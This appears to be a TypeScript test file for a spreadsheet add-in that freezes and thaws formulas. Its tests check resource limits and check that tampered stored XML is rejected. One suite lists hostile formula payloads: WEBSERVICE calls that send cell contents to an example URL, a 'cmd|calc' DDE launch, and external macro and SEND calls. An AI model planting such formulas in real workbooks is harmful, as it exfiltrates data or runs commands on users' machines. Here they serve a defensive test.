import { createFrozenStore } from '../../src/workbook/frozen-store';
import type { FrozenCells } from '../../src/spreadsheet/frozen-cells';
import { freeze } from '../../src/freeze/freezing';
import { findSuperseded } from '../../src/freeze/superseded';
import { thaw } from '../../src/freeze/thawing';
import { frozenNow } from '../../src/freeze/undone-thaws';
import type { FrozenFormulas } from '../../src/workbook/frozen-formulas';
import type { SheetArea } from '../../src/spreadsheet/sheet';
import { createFakeWorkbookParts } from '../spreadsheet/fake-workbook-parts';
import { createFakeGrid } from './fake-grid';

describe('names that somebody has stretched', () => {
  it.each([
    ['rows', { rows: 1_048_576, columns: 1 }],
    ['columns', { rows: 3, columns: 16_384 }],
    ['rows and columns', { rows: 1_048_576, columns: 100 }],
  ])('over %s are apart before a cell of them is read', async (_, size) => {
    const { grid, parts, stretch, cellsRead } = await frozenColumn();
    await stretch('A', size);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    expect(cellsRead()).toBeLessThan(10_000);
    expect(grid.read('C1:C3')).toEqual([[1], [2], [3]]);
  });

  it('together over more than was ever frozen are not read at all', async () => {
    const { parts, stretch, cellsRead } = await frozenColumn();
    const rows = 1_048_576;
    for (const column of ['A', 'B', 'C']) await stretch(column, { rows, columns: 1 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    for (const column of ['A', 'B']) await stretch(column, { rows: 3, columns: 1 });
    await stretch('C', { rows, columns: 100 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ kind: 'failed' });
    expect(cellsRead()).toBeLessThan(10_000);
  });
});

async function frozenColumn() {
  const grid = createFakeGrid();
  for (const row of [1, 2, 3]) {
    grid.set(`A${row}`, [[row, row, `=LOCATTR(A${row},B${row},"x")`]]);
    grid.show(`C${row}`, row);
  }
  const store = createFrozenStore(createFakeWorkbookParts().parts);
  let read = 0;
  const cells: FrozenCells = {
    ...grid.cells,
    read(areas) {
      for (const { rows, columns } of areas) read += rows * columns;
      return grid.cells.read(areas);
    },
  };
  const parts = { cells, store, now: () => 1, turn: () => Promise.resolve() };
  await freeze(undefined, parts);
  read = 0;
  return {
    grid,
    parts,
    cellsRead: () => read,
    stretch(column: string, size: Pick<SheetArea, 'rows' | 'columns'>) {
      const at = 'ABC'.indexOf(column);
      const anchors = [...grid.names()].flatMap(([name, area]) =>
        area?.column === at ? [{ name, area: { ...area, ...size } }] : [],
      );
      return grid.cells.anchor(anchors);
    },
  };
}

describe('a workbook that somebody has prepared', () => {
  it.each([
    '=WEBSERVICE(""https://example.com/?""&A1)&LOCATTR(1,2,""x"")',
    '=HYPERLINK(""https://example.com"",""Click"")',
    '=1+1',
    "=LOCATTR('C:\\\\[Book.xlsx]S'!A1,2,3)",
    '=LOCATTR(cmd|calc,2,3)',
    '=LOCATTR(1,2,Book!Macro(1))',
    '=LOCATTR(1,_xldudf_SEND(A1),3)',
    `='a""b'!A1&WEBSERVICE(""https://example.com/?""&B2)&LOCATTR(1,2,""x"")`,
    '=CONCAT(MAP(A1:A9,WEBSERVICE))&LOCATTR(1,2,""x"")',
  ])('has no %s typed into its cells', async (evil) => {
    const grid = createFakeGrid(['Sheet1', 'a"b']);
    grid.set('A1', [['=LOCATTR(1,2,"x")']]);
    grid.show('A1', 5);
    const held = createFakeWorkbookParts();
    const store = createFrozenStore(held.parts);
    const parts = { cells: grid.cells, store, now: () => 1, turn: () => Promise.resolve() };
    expect(await freeze(undefined, parts)).toMatchObject({ cells: 1 });
    const [xml = ''] = held.held;
    const planted = xml.replace(
      '=LOCATTR(1,2,\\"x\\")',
      evil.replaceAll('""', '\\"').replaceAll('&', '&amp;'),
    );
    expect(planted).not.toBe(xml);
    held.held.splice(0, 1, planted);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
    expect(grid.read('A1')).toEqual([[5]]);
  });
});

describe('a list of thousands of formulas that somebody has prepared', () => {
  it('is compared without a look at every area for every cell', async () => {
    const { areas, looks, frozen } = preparedList(600, 100);
    await frozenNow(frozen, areas, blankCells());
    // 300 areas, and 30,000 cells.
    expect(looks()).toBeLessThan(300_000);
  });

  it('lets the page go on every few thousand cells', async () => {
    const { areas, frozen } = preparedList(600, 100);
    const { turns, ...parts } = blankCells();
    await frozenNow(frozen, areas, parts);
    expect(turns()).toBeGreaterThanOrEqual(30_000 / 5_000);
  });

  it('lets the page go on within one column, and in what is kept of it besides', async () => {
    const { areas, frozen } = preparedList(2, 10_000);
    const { turns, ...parts } = blankCells();
    const [, thawed] = frozen;
    if (thawed === undefined) throw new Error('nothing was thawed');
    const besides = { ...thawed, thawedAt: undefined, valueHashes: new Uint32Array(400_000) };
    await frozenNow([thawed, besides], areas, parts);
    expect(turns()).toBeGreaterThanOrEqual(410_000 / 5_000);
  });

  it('is read up to a million cells, few of them at once', async () => {
    const { areas, frozen } = preparedList(5_000, 1_000);
    const { most, read, ...parts } = blankCells();
    await frozenNow(frozen, areas, parts);
    expect(read()).toBe(1_000_000);
    expect(most()).toBe(20_000);
  });

  it('is looked through in turns where cells are frozen anew', async () => {
    const { areas, frozen } = preparedList(600, 100);
    const { turns, ...parts } = blankCells();
    const formulas = [{ sheet: 'Stores', row: 0, column: 9, rows: 20_000, columns: 1 }];
    await findSuperseded(frozen, areas, formulas, parts);
    expect(turns()).toBeGreaterThanOrEqual(50_000 / 5_000);
  });
});

/** Every other one thawed, each in rows of its own. */
function preparedList(entries: number, rows: number) {
  let looks = 0;
  const frozen = Array.from({ length: entries }, (_, index): FrozenFormulas => {
    return {
      id: `x-${index}`,
      at: 1,
      kind: 'column',
      area: { sheet: 'Stores', row: 0, column: 0, rows: 1, columns: 1 },
      anchor: `_locus_frozen_a_${index}`,
      origin: undefined,
      references: [],
      formulas: [['=LOCATTR(1,2,"x")']],
      repeats: [[0, 1]],
      valueHashes: Uint32Array.of(1),
      rowHashes: Uint32Array.of(1),
      otherHashes: new Uint32Array(0),
      isLeft: false,
      thawedAt: index % 2 === 0 ? undefined : 5,
    };
  });
  const areas = new Map(
    frozen.map(({ anchor, thawedAt }, index): [string, SheetArea] => {
      const rest = { sheet: 'Stores', column: thawedAt === undefined ? 5 : 1, columns: 1 };
      const row = Math.floor(index / 2) * (thawedAt === undefined ? 1 : rows);
      const counted = {
        ...rest,
        rows: thawedAt === undefined ? 1 : rows,
        get row() {
          looks += 1;
          return row;
        },
      };
      return [anchor, counted];
    }),
  );
  return { frozen, areas, looks: () => looks };
}

function blankCells() {
  let turns = 0;
  let most = 0;
  let total = 0;
  const read: FrozenCells['read'] = (areas) => {
    const size = areas.reduce((sum, { rows, columns }) => sum + rows * columns, 0);
    most = Math.max(most, size);
    total += size;
    const blocks = areas.map((area) => {
      const lines = new Array<null[]>(area.rows).fill([null]);
      return { area, inputs: lines, contents: lines };
    });
    return Promise.resolve({ kind: 'cells', blocks });
  };
  return {
    cells: { read },
    turn: () => Promise.resolve(void (turns += 1)),
    turns: () => turns,
    most: () => most,
    read: () => total,
  };
}
